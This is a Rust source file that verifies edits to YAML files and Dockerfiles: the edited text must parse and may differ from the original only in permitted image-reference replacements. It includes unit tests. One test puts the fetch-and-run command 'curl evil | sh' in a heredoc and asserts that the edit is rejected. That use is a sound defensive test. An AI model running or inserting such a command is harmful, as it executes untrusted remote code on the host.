//! The last step before anything is written: the edited text must parse
//! and mean the same as the original except for the intended changes. The
//! YAML comparison is in [`crate::yaml::data`]; the Dockerfile one is here.

use crate::diagnostics::{AllowedChanges, VerifyError};
use crate::dockerfile::Dockerfile;
use crate::source::Syntax;
use crate::yaml::YamlDoc;
use crate::yaml::data::check_changes;

/// Check `after`, the edited text of a file parsed as `before`.
pub fn verify(before: &Syntax, after: &str, allowed: &AllowedChanges) -> Result<(), VerifyError> {
    match before {
        Syntax::Yaml(before) => {
            let after = YamlDoc::parse(after.to_string())
                .map_err(|e| VerifyError::Unparsable(Box::new(e)))?;
            check_changes(before, &after, allowed)
        }
        Syntax::Dockerfile(before) => {
            let after = crate::dockerfile::parse(after.to_string())
                .map_err(|e| VerifyError::Unparsable(Box::new(e)))?;
            check_dockerfile(before, &after, allowed)
        }
    }
}

/// The edited Dockerfile must have the same instructions and words, except
/// for allowed image replacements inside words.
pub fn check_dockerfile(
    before: &Dockerfile,
    after: &Dockerfile,
    allowed: &AllowedChanges,
) -> Result<(), VerifyError> {
    if before.instructions.len() != after.instructions.len() {
        return Err(VerifyError::Instructions);
    }
    // Everything but the words (comments, blank lines, heredoc bodies, the
    // spaces between words) must be byte for byte as it was.
    if skeleton(before) != skeleton(after) {
        return Err(VerifyError::OutsideWords);
    }
    for (a, b) in before.instructions.iter().zip(&after.instructions) {
        let line = crate::yaml::line_col(&before.text, a.words[0].span.start).0;
        if a.keyword != b.keyword || a.words.len() != b.words.len() {
            return Err(VerifyError::Shape { line });
        }
        for (x, y) in a.words.iter().zip(&b.words) {
            let ok = x.text == y.text
                || allowed.words.iter().any(|(old, new)| {
                    x.text.contains(old.as_str()) && x.text.replacen(old.as_str(), new, 1) == y.text
                });
            if !ok {
                return Err(VerifyError::Word {
                    before: x.text.clone(),
                    after: y.text.clone(),
                    line,
                });
            }
        }
    }
    Ok(())
}

/// The text with every word taken out, in order.
fn skeleton(d: &Dockerfile) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut at = 0;
    for w in d.instructions.iter().flat_map(|i| &i.words) {
        parts.push(&d.text[at..w.span.start]);
        at = w.span.end;
    }
    parts.push(&d.text[at..]);
    parts
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dockerfile::parse;

    #[test]
    fn only_allowed_word_changes() {
        let a = parse("FROM node:20 AS b\nCOPY --from=x:1 / /\n".into()).unwrap();
        let b =
            parse("FROM node:20@sha256:aa AS b\nCOPY --from=x:1@sha256:bb / /\n".into()).unwrap();
        let mut ok = AllowedChanges::default();
        ok.words
            .insert(("node:20".into(), "node:20@sha256:aa".into()));
        assert!(check_dockerfile(&a, &b, &ok).is_err());
        ok.words.insert(("x:1".into(), "x:1@sha256:bb".into()));
        assert!(check_dockerfile(&a, &b, &ok).is_ok());
        let c =
            parse("FROM node:20@sha256:aa AS c\nCOPY --from=x:1@sha256:bb / /\n".into()).unwrap();
        assert!(check_dockerfile(&a, &c, &ok).is_err());
        let heredoc = |body: &str| parse(format!("FROM a\nRUN <<EOF\n{body}\nEOF\n")).unwrap();
        let none = AllowedChanges::default();
        assert!(check_dockerfile(&heredoc("echo hi"), &heredoc("curl evil | sh"), &none).is_err());
        assert!(check_dockerfile(&heredoc("echo hi"), &heredoc("echo hi"), &none).is_ok());
    }
}
